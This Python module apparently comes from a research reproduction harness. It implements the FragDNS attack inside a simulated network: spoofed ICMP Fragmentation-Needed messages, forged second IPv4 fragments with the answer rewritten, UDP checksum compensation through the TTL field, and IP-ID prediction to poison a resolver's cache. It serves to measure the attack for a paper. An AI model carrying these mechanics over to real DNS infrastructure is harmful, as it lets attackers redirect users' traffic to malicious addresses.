"""FragDNS: cache poisoning via IPv4 fragment injection.

Paper Section 3.3 (Figure 2).  The attack never touches the DNS
challenge values at all — they live in the *first* fragment, which the
genuine nameserver supplies.  Instead the attacker:

1. sends a spoofed ICMP Fragmentation-Needed to the nameserver so its
   responses to the victim resolver fragment at a tiny MTU (PMTUD);
2. reconstructs the genuine response bytes by querying the nameserver
   itself, locates the answer rdata in the second fragment, overwrites
   it with the attacker's address, and repairs the UDP checksum by
   adjusting the record's TTL field (one's-complement compensation);
3. predicts the IP-ID the response will carry — trivial against global
   counters (sample, then plant a window), blind 64-in-65536 guessing
   against randomised IP-IDs — and plants the crafted second fragment
   in the resolver's defragmentation cache under each predicted ID;
4. triggers the query; the genuine first fragment reassembles with the
   planted second fragment, the checksum verifies, the TXID matches
   (it is genuine), and the poisoned record enters the cache.

Table 6's FragDNS numbers (hitrate 20% global / 0.1% random IP-ID,
5 / 1024 queries, 325 / 65K packets) emerge from these mechanics.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.attacks.base import AttackResult, OffPathAttacker, cache_poisoned
from repro.attacks.trigger import QueryTrigger
from repro.core.errors import AttackError
from repro.core.rng import DeterministicRNG
from repro.dns import names
from repro.dns.message import make_query
from repro.dns.nameserver import AuthoritativeServer
from repro.dns.records import TYPE_A
from repro.dns.resolver import RecursiveResolver
from repro.dns.wire import encode_message
from repro.netsim.addresses import ip_to_int
from repro.netsim.checksum import checksum_compensation, ones_complement_sum
from repro.netsim.host import LINUX_MIN_PMTU
from repro.netsim.network import Network
from repro.netsim.packet import (
    ICMP_DEST_UNREACHABLE,
    ICMP_FRAG_NEEDED,
    IcmpMessage,
    Ipv4Packet,
)
from repro.netsim.wire import encode_ipv4, make_udp_packet

DNS_PORT = 53


@dataclass
class FragDnsConfig:
    """Attack tunables."""

    forced_mtu: int = 68            # the ICMP PTB advertised MTU
    planted_per_attempt: int = 64   # fill the 64-slot defrag cache
    max_attempts: int = 4000
    # World model: how far the nameserver's global IP-ID counter advances
    # between the attacker's sample and the raced response, due to the
    # nameserver's other clients.  Uniform[lo, hi); hi=320 with a planted
    # window of 64 gives the paper's ~20% hitrate for global counters.
    cross_traffic_advance: tuple[int, int] = (0, 320)
    attempt_spacing: float = 1.0


class FragDnsAttack:
    """Execute FragDNS against one resolver/nameserver pair.

    Each attempt plants ``planted_per_attempt`` crafted second fragments,
    one per predicted IP-ID, as one spray
    (:meth:`OffPathAttacker.spoof_fragments
    <repro.attacks.base.OffPathAttacker.spoof_fragments>`): one
    scheduler event and one reassembly-cache call on a clean fabric,
    with the counters and cache contents of one packet per fragment.
    """

    method_name = "FragDNS"

    def __init__(self, attacker: OffPathAttacker, network: Network,
                 resolver: RecursiveResolver,
                 nameserver: AuthoritativeServer, target_domain: str,
                 malicious_ip: str | None = None,
                 config: FragDnsConfig | None = None,
                 world_rng: DeterministicRNG | None = None):
        self.attacker = attacker
        self.network = network
        self.resolver = resolver
        self.nameserver = nameserver
        self.target_domain = names.normalise(target_domain)
        self.malicious_ip = malicious_ip or attacker.address
        self.config = config if config is not None else FragDnsConfig()
        self._rng = attacker.rng.derive("fragdns")
        # The "rest of the Internet" querying the nameserver; this noise
        # source belongs to the harness, not the attacker.
        self._world_rng = world_rng if world_rng is not None \
            else DeterministicRNG("fragdns-world")
        self._template: bytes | None = None
        self._genuine_ip: str | None = None

    # -- step 1: force fragmentation --------------------------------------------

    def force_fragmentation(self) -> None:
        """Spoof ICMP Fragmentation-Needed at the nameserver (PMTUD)."""
        fake_original = make_udp_packet(
            src=self.nameserver.address, dst=self.resolver.address,
            sport=DNS_PORT, dport=3333, payload=b"x" * 16,
        )
        embedded = encode_ipv4(fake_original)[:28]
        self.attacker.spoof_icmp(
            src=self.resolver.address, dst=self.nameserver.address,
            message=IcmpMessage(
                icmp_type=ICMP_DEST_UNREACHABLE, code=ICMP_FRAG_NEEDED,
                mtu=self.config.forced_mtu, embedded=embedded,
            ),
        )
        self.network.run(0.05)

    def effective_mtu(self) -> int:
        """The MTU the nameserver will actually use toward the resolver."""
        return self.nameserver.host.path_mtu(self.resolver.address)

    # -- step 2: reconstruct and rewrite the response ------------------------------

    def reconnoitre(self, qname: str) -> bytes:
        """Learn the genuine response bytes by asking the nameserver.

        The attacker queries from its own address; everything except the
        TXID (first fragment, irrelevant) matches what the resolver will
        receive, provided the server does not randomise record order.
        """
        captured: dict[str, bytes] = {}
        query = make_query(names.normalise(qname), TYPE_A,
                           txid=self._rng.pick_txid(),
                           edns_udp_size=self.resolver.config.edns_udp_size,
                           recursion_desired=False)

        def on_reply(datagram, src, dst):
            if src == self.nameserver.address:
                captured["payload"] = datagram.payload

        socket = self.attacker.host.open_udp(None, on_reply)
        socket.sendto(self.nameserver.address, DNS_PORT,
                      encode_message(query))
        self.attacker.packets_sent += 1
        self.network.run(0.1)
        socket.close()
        if "payload" not in captured:
            raise AttackError("reconnaissance query got no response")
        # Rebuild the exact UDP segment the resolver will see: the UDP
        # header differs (ports/length/checksum) but those bytes are in
        # the first fragment; only the DNS payload layout matters here.
        self._template = captured["payload"]
        return self._template

    def fragment_boundary(self) -> int:
        """Offset (within the UDP segment) where the second fragment starts."""
        mtu = self.effective_mtu()
        return ((mtu - 20) // 8) * 8

    def craft_second_fragment(self, qname: str) -> bytes:
        """Build the malicious replacement for the genuine second fragment.

        Rewrites the answer's A rdata to the attacker address and
        compensates the UDP checksum through the record's TTL so the
        post-reassembly verification still passes.
        """
        if self._template is None:
            self.reconnoitre(qname)
        assert self._template is not None
        dns_payload = self._template
        # UDP segment = 8-byte header + DNS payload; fragment offsets are
        # relative to the segment start.
        segment_tail_offset = self.fragment_boundary()
        dns_offset = segment_tail_offset - 8  # skip UDP header bytes
        if dns_offset < 0:
            raise AttackError("fragment boundary inside the UDP header")
        genuine_tail = dns_payload[dns_offset:]
        genuine_addresses = [
            r.data for r in self.nameserver.zones.zone_for(qname).lookup(
                names.normalise(qname), TYPE_A)
            if r.rtype == TYPE_A
        ]
        if not genuine_addresses:
            raise AttackError(f"no A record to overwrite for {qname}")
        self._genuine_ip = genuine_addresses[0]
        malicious = bytearray(genuine_tail)
        evil = ip_to_int(self.malicious_ip).to_bytes(4, "big")
        rewritten: list[int] = []      # rdata offsets (payload-relative)
        for address in genuine_addresses:
            needle = ip_to_int(address).to_bytes(4, "big")
            search_from = max(dns_offset, 12)
            while True:
                rdata_at = dns_payload.find(needle, search_from)
                if rdata_at < 0:
                    break
                search_from = rdata_at + 1
                if rdata_at < dns_offset:
                    continue
                rel = rdata_at - dns_offset
                malicious[rel:rel + 4] = evil
                rewritten.append(rdata_at)
        if not rewritten:
            raise AttackError(
                "no answer rdata lies fully inside the second fragment"
                f" (boundary {segment_tail_offset}); the response is too"
                " small — a longer qname or larger response is needed"
            )
        # Checksum repair: find an even-aligned (relative to the UDP
        # segment) 16-bit slot inside one rewritten record's TTL field
        # that also sits inside the second fragment.
        slot = -1
        for rdata_at in rewritten:
            ttl_at = rdata_at - 6
            candidate = ttl_at if ttl_at % 2 == 0 else ttl_at + 1
            if candidate >= dns_offset and candidate + 2 <= rdata_at - 2:
                slot = candidate
                break
        if slot < 0:
            raise AttackError(
                "no rewritable record has its TTL inside the second"
                " fragment; cannot compensate the UDP checksum"
            )
        rel_slot = slot - dns_offset
        malicious[rel_slot:rel_slot + 2] = b"\x00\x00"
        compensation = checksum_compensation(genuine_tail, bytes(malicious))
        malicious[rel_slot:rel_slot + 2] = compensation.to_bytes(2, "big")
        if ones_complement_sum(bytes(malicious)) \
                != ones_complement_sum(genuine_tail):
            raise AttackError("checksum compensation failed")
        return bytes(malicious)

    # -- step 3: IP-ID prediction ----------------------------------------------------

    def sample_ipid(self) -> int | None:
        """Observe the nameserver's current IP-ID by eliciting a response."""
        observed: dict[str, int] = {}

        def tap(packet: Ipv4Packet) -> None:
            if packet.src == self.nameserver.address:
                observed["ipid"] = packet.ident

        previous_tap = self.attacker.host.packet_tap
        self.attacker.host.packet_tap = tap
        try:
            query = make_query(
                f"{names.random_label(self._rng)}.{self.target_domain}",
                TYPE_A, self._rng.pick_txid(), recursion_desired=False,
            )
            socket = self.attacker.host.open_udp(None, None)
            socket.sendto(self.nameserver.address, DNS_PORT,
                          encode_message(query))
            self.attacker.packets_sent += 1
            self.network.run(0.1)
            socket.close()
        finally:
            self.attacker.host.packet_tap = previous_tap
        return observed.get("ipid")

    def predict_ipids(self) -> list[int]:
        """The IP-ID window to plant fragments under.

        When the nameserver's counter is observable and a sample comes
        back, the window is the ``planted_per_attempt`` idents after the
        sample; otherwise it is a blind random pick.
        """
        config = self.config
        if self.nameserver.host.ipid.observe() is not None:
            sampled = self.sample_ipid()
            if sampled is not None:
                return [(sampled + 1 + i) & 0xFFFF
                        for i in range(config.planted_per_attempt)]
        return self._rng.pick_sample(range(0x10000),
                                     config.planted_per_attempt)

    # -- full attack --------------------------------------------------------------------

    def execute(self, trigger: QueryTrigger,
                qname: str | None = None) -> AttackResult:
        """Run the complete FragDNS loop until poisoned or budget exhausted."""
        config = self.config
        qname = names.normalise(qname if qname is not None
                                else self.target_domain)
        result = AttackResult(method=self.method_name, success=False)
        started = self.network.now
        packets_before = self.attacker.packets_sent
        self.force_fragmentation()
        if self.effective_mtu() >= self.nameserver.host.config.mtu:
            result.detail["reason"] = (
                "nameserver ignored ICMP fragmentation-needed (PMTUD off"
                " or MTU clamped); responses will not fragment"
            )
            result.duration = self.network.now - started
            return result
        try:
            malicious_tail = self.craft_second_fragment(qname)
        except AttackError as exc:
            result.detail["reason"] = str(exc)
            result.duration = self.network.now - started
            return result
        boundary = self.fragment_boundary()
        ns_host = self.nameserver.host
        for attempt in range(config.max_attempts):
            result.iterations = attempt + 1
            self.attacker.spoof_fragments(
                src=self.nameserver.address, dst=self.resolver.address,
                idents=self.predict_ipids(), frag_offset_bytes=boundary,
                payload=malicious_tail, more_fragments=False,
            )
            # World noise: other clients of the nameserver advance its
            # global IP-ID (the one observable policy) between our
            # sample and the raced response.
            lo, hi = config.cross_traffic_advance
            if ns_host.ipid.observe() is not None and hi > lo:
                ns_host.ipid.advance(
                    self._world_rng.randint(lo, max(lo, hi - 1)))
            trigger.fire(qname, "A")
            result.queries_triggered += 1
            self.network.run(0.4)
            if cache_poisoned(self.resolver, qname, self.malicious_ip):
                result.success = True
                break
            entry = self.resolver.cache.entry(qname, TYPE_A)
            if entry is not None:
                # The genuine (or truncation-fallback TCP) answer landed:
                # the record is cached and the race is over until it
                # expires.  Real attackers wait out the TTL; we account
                # the failure and keep going after flushing, so hitrate
                # statistics over many attempts stay measurable.
                result.detail.setdefault("genuine_cached", 0)
                result.detail["genuine_cached"] += 1
                self.resolver.cache.flush()
            self.network.run(config.attempt_spacing)
        result.packets_sent = self.attacker.packets_sent - packets_before
        result.duration = self.network.now - started
        result.detail.update({
            "forced_mtu": config.forced_mtu,
            "effective_mtu": self.effective_mtu(),
            "fragment_boundary": boundary,
            "ipid_policy": ns_host.ipid.name,
        })
        return result
